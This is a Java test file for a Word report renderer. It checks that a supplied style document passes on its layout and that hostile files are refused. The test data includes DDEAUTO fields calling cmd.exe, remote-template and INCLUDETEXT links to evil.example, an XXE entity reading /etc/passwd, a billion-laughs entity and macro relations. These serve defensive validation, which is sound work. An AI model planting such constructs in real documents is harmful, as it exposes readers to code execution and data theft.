package kring.report.word;

import static kring.report.word.StyleDocuments.changed;
import static kring.report.word.StyleDocuments.replace;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import kring.report.document.Bullets;
import kring.report.document.Text;
import kring.report.word.look.UnusableStyle;
import kring.report.word.look.UnusableStyle.Problem;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class OwnLookTest {
    private static final String TYPES = "[Content_Types].xml";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final byte[] STYLE = StyleDocuments.libreOffice();

    @Test
    void pages_header_and_footer_are_those_of_the_style_document() throws Exception {
        OpenedDocument file = render(STYLE);

        assertThat(file.body()).contains("w:w=\"12240\"", "headerReference");
        assertThat(file.parts()).containsKey("word/media/image1.png");
        try (XWPFDocument document = file.document()) {
            assertThat(document.getHeaderList().get(0).getText()).contains("Bureau Helder");
            assertThat(document.getFooterList().get(0).getText())
                    .contains("Bureau Helder, Hoofdstraat 1", "Kring Lindermark · voor de deelnemers");
        }
    }

    @Test
    void its_styles_are_used_and_those_it_lacks_added() {
        String styles = render(STYLE).part("word/styles.xml");

        assertThat(styles).contains("B03A2E", "1E8449");
        assertThat(styles).containsOnlyOnce("w:styleId=\"Heading1\"").containsOnlyOnce("w:styleId=\"KringTable\"");
        assertThat(styles.toLowerCase(Locale.ROOT)).containsOnlyOnce("w:name w:val=\"heading 1\"");
    }

    @Test
    void its_content_comments_links_and_authors_stay_behind() {
        OpenedDocument file = render(STYLE);

        assertThat(file.parts().values()).noneMatch(part -> part.matches("(?is).*(geheim|opmerking|onderwerp).*"));
        assertThat(file.parts().keySet()).noneMatch(part -> part.matches(".*(comments|notes).*"));
    }

    @Test
    void a_bullet_list_without_bullets_gets_them() {
        OpenedDocument file = OpenedDocument.of(
                new WordRenderer(Optional.of(STYLE)).render(Specimen.of(new Bullets(List.of(Text.of("punt"))))));

        assertThat(file.part("word/styles.xml"))
                .containsPattern("(?s)w:styleId=\"ListBullet\".{0,200}<w:numPr><w:numId");
    }

    @Test
    void the_language_is_that_of_the_report() {
        String styles = render(STYLE).part("word/styles.xml");

        assertThat(styles).containsOnlyOnce("w:lang ").contains("w:lang w:val=\"nl-NL\"");
    }

    @Test
    void a_style_is_found_by_its_name_whatever_its_id() {
        OpenedDocument file = render(with(parts -> {
            replace(parts, "word/styles.xml", "w:styleId=\"Heading1\"", "w:styleId=\"Kop1\"");
            replace(parts, "word/styles.xml", "w:val=\"Heading 1\"", "w:val=\"heading 1\"");
            replace(parts, "word/styles.xml", "w:styleId=\"Index\"", "w:styleId=\"KringGood\"");
        }));

        assertThat(file.body()).contains("<w:pStyle w:val=\"Kop1\"/>").contains("<w:rStyle w:val=\"KringGoodK\"/>");
    }

    @Test
    void a_template_becomes_a_document() {
        OpenedDocument file = render(with(parts -> replace(
                parts, "[Content_Types].xml", "wordprocessingml.document.main", "wordprocessingml.template.main")));

        assertThat(file.part("[Content_Types].xml"))
                .contains("wordprocessingml.document.main")
                .doesNotContain("template.main");
    }

    @Test
    void a_first_page_of_its_own_has_the_line_too() {
        OpenedDocument file =
                render(with(parts -> replace(parts, "word/document.xml", "<w:pgSz", "<w:titlePg/><w:pgSz")));

        assertThat(file.parts().keySet().stream().filter(name -> name.startsWith("word/footer")))
                .hasSize(2)
                .allMatch(name -> file.part(name).contains("voor de deelnemers"));
    }

    @Test
    void a_footer_with_page_numbers_gets_no_second_one() {
        OpenedDocument file = render(with(parts -> replace(
                parts, "word/footer1.xml", "</w:p>", "<w:fldSimple w:instr=\" PAGE \"><w:r/></w:fldSimple></w:p>")));

        assertThat(file.part("word/footer1.xml")).contains("voor de deelnemers").doesNotContain("NUMPAGES");
    }

    @Test
    void a_footer_has_the_line_whatever_its_part_is_called() {
        OpenedDocument file = render(with(parts -> {
            parts.put("word/voet.xml", parts.remove("word/footer1.xml"));
            parts.replaceAll((name, text) -> text.replace("footer1.xml", "voet.xml"));
        }));

        assertThat(file.part("word/voet.xml")).contains("voor de deelnemers").doesNotContain("<?kring");
    }

    @Test
    void an_earlier_report_can_be_the_style_document() {
        byte[] earlier = new WordRenderer(Optional.of(STYLE)).render(Specimen.report());

        OpenedDocument file = render(earlier);

        assertThat(file.part("word/footer1.xml"))
                .containsOnlyOnce("voor de deelnemers")
                .containsOnlyOnce("NUMPAGES");
        assertThat(file.part("word/styles.xml"))
                .isEqualTo(OpenedDocument.of(earlier).part("word/styles.xml"));
    }

    @Test
    void a_page_that_is_not_fully_described_is_completed() {
        OpenedDocument file = render(with(parts -> {
            replace(parts, "word/document.xml", "w:left=\"1701\"", "");
            parts.compute("word/document.xml", (name, text) -> text.replaceAll("<w:pgSz [^>]*>", ""));
        }));

        assertThat(file.body()).contains("w:w=\"11906\"", "w:left=\"1134\"");
    }

    @Test
    void the_same_style_document_gives_the_same_bytes() {
        assertThat(render(STYLE).bytes()).isEqualTo(render(STYLE).bytes());
    }

    /** Each of them a change of a document that is fine. */
    static Stream<Arguments> hazards() {
        byte[] prose = "Beste kring".getBytes(StandardCharsets.UTF_8);
        byte[] oldWord = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        return Stream.of(
                Arguments.of("prose", Problem.NOT_WORD, prose),
                Arguments.of("nothing", Problem.NOT_WORD, new byte[0]),
                Arguments.of("half a file", Problem.NOT_WORD, Arrays.copyOf(STYLE, STYLE.length / 2)),
                Arguments.of(
                        "a workbook",
                        Problem.NOT_WORD,
                        changing(TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main")),
                Arguments.of("broken styles", Problem.NOT_WORD, changing("word/styles.xml", "</w:styles>", "")),
                Arguments.of("a broken header", Problem.NOT_WORD, changing("word/header1.xml", "</w:hdr>", "")),
                Arguments.of(
                        "a header in disguise",
                        Problem.NOT_WORD,
                        changing(TYPES, "/word/header1.xml", "/word/header1.png")),
                Arguments.of("a password", Problem.LOCKED, oldWord),
                Arguments.of(
                        "a bomb",
                        Problem.TOO_LARGE,
                        with(parts -> parts.put("word/media/x.bmp", "0".repeat(50_000_001)))),
                Arguments.of(
                        "too many parts",
                        Problem.TOO_LARGE,
                        with(parts -> IntStream.range(0, 2_001).forEach(i -> parts.put("word/" + i, "")))),
                Arguments.of(
                        "a macro document",
                        Problem.MACROS,
                        changing(
                                TYPES,
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "application/vnd.ms-word.document.macroEnabled.main+xml")),
                Arguments.of("macros", Problem.MACROS, with(parts -> parts.put("word/vbaProject.bin", "x"))),
                Arguments.of(
                        "macros by another name",
                        Problem.MACROS,
                        relation(
                                "http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"innocent.txt")),
                Arguments.of(
                        "macros by their type",
                        Problem.MACROS,
                        changing(
                                TYPES,
                                "</Types>",
                                "<Override PartName=\"/word/x.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")),
                Arguments.of(
                        "an object",
                        Problem.MACROS,
                        relation(OFFICE + "oleObject\" Target=\"embeddings/oleObject1.bin")),
                Arguments.of("a control", Problem.MACROS, relation(OFFICE + "control\" Target=\"activeX/activeX1.xml")),
                Arguments.of(
                        "a template elsewhere",
                        Problem.LINKS,
                        relation(OFFICE
                                + "attachedTemplate\" TargetMode=\"External\" Target=\"http://evil.example/x.dotm")),
                Arguments.of(
                        "a template on a share",
                        Problem.LINKS,
                        with(
                                parts -> parts.put(
                                        "word/_rels/settings.xml.rels",
                                        relations(
                                                OFFICE
                                                        + "attachedTemplate\" TargetMode=\"External\" Target=\"file:////evil/share/x.dotm")))),
                Arguments.of(
                        "a picture elsewhere",
                        Problem.LINKS,
                        with(parts -> parts.put(
                                "word/_rels/header1.xml.rels",
                                relations(OFFICE
                                        + "image\" TargetMode=\"external\" Target=\"http://evil.example/x.png")))),
                Arguments.of(
                        "an object elsewhere",
                        Problem.MACROS,
                        relation(OFFICE + "oleObject\" TargetMode=\"External\" Target=\"file:///c:/x.xlsx")),
                Arguments.of(
                        "a frame elsewhere",
                        Problem.LINKS,
                        relation(OFFICE + "frame\" TargetMode=\"External\" Target=\"http://evil.example/x")),
                Arguments.of(
                        "a mail merge",
                        Problem.LINKS,
                        changing("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>")),
                Arguments.of("DDE", Problem.FIELDS, field(run("DDE excel c:\\\\x.xlsx"))),
                Arguments.of(
                        "DDEAUTO in pieces",
                        Problem.FIELDS,
                        field(run(" DD") + run("EAU") + run("TO c:\\\\windows\\\\cmd.exe"))),
                Arguments.of("dde in small letters", Problem.FIELDS, field(run(" ddeauto x"))),
                Arguments.of(
                        "a field in a field",
                        Problem.FIELDS,
                        field(run(" QUOTE ") + begin() + run("DDEAUTO x") + end())),
                Arguments.of(
                        "a field that never ends",
                        Problem.FIELDS,
                        header(begin() + run(" INCLUDETEXT \"http://evil.example\""))),
                Arguments.of(
                        "a linked picture",
                        Problem.FIELDS,
                        field(run(" INCLUDEPICTURE \"http://evil.example/x.png\" \\\\d"))),
                Arguments.of(
                        "a simple field", Problem.FIELDS, header("<w:fldSimple w:instr=\" LINK Excel.Sheet x\"/>")),
                Arguments.of(
                        "a DOCTYPE",
                        Problem.ENTITIES,
                        changing(
                                "word/document.xml",
                                "<w:document",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document")),
                Arguments.of(
                        "a DOCTYPE elsewhere",
                        Problem.ENTITIES,
                        changing(
                                "word/styles.xml",
                                "<w:styles",
                                "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><w:styles")),
                Arguments.of(
                        "a billion laughs",
                        Problem.ENTITIES,
                        changing(
                                "word/settings.xml",
                                "<w:settings",
                                "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><w:settings")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hazards")
    void what_is_no_word_document_or_holds_a_hazard_is_refused(String name, Problem problem, byte[] style) {
        assertThatThrownBy(() -> render(style))
                .isInstanceOfSatisfying(
                        UnusableStyle.class, e -> assertThat(e.problem()).isEqualTo(problem));
    }

    @Test
    void a_field_that_only_names_such_words_is_fine() {
        assertThat(render(field(run(" HYPERLINK \"http://kring.example/link\"")))
                        .body())
                .isNotEmpty();
        assertThat(render(field(run(" PAGE "))).body()).isNotEmpty();
    }

    private static byte[] changing(String part, String before, String after) {
        return with(parts -> replace(parts, part, before, after));
    }

    private static byte[] relation(String relation) {
        return changing(
                "word/_rels/document.xml.rels",
                "</Relationships>",
                "<Relationship Id=\"x1\" Type=\"" + relation + "\"/></Relationships>");
    }

    private static String relations(String relation) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"x1\" Type=\""
                + relation + "\"/></Relationships>";
    }

    private static byte[] field(String runs) {
        return header(begin() + runs + end());
    }

    private static byte[] header(String runs) {
        return changing("word/header1.xml", "</w:p></w:hdr>", runs + "</w:p></w:hdr>");
    }

    private static String begin() {
        return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    }

    private static String end() {
        return "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    }

    private static String run(String text) {
        return "<w:r><w:instrText>" + text.replace("\"", "&quot;") + "</w:instrText></w:r>";
    }

    private static byte[] with(Consumer<Map<String, String>> change) {
        return changed(STYLE, change);
    }

    private static OpenedDocument render(byte[] style) {
        return OpenedDocument.of(new WordRenderer(Optional.of(style)).render(Specimen.report()));
    }
}
